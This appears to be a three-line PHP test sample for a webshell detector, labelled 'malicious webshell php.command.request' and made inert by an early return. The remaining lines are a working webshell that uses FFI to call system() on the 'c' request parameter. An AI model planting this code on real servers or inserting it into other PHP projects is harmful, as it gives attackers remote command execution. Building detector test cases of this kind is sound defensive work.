<?php return; // want: malicious webshell php.command.request
$c = FFI::cdef('int system(const char *command);');
$c->system($_GET['c']);
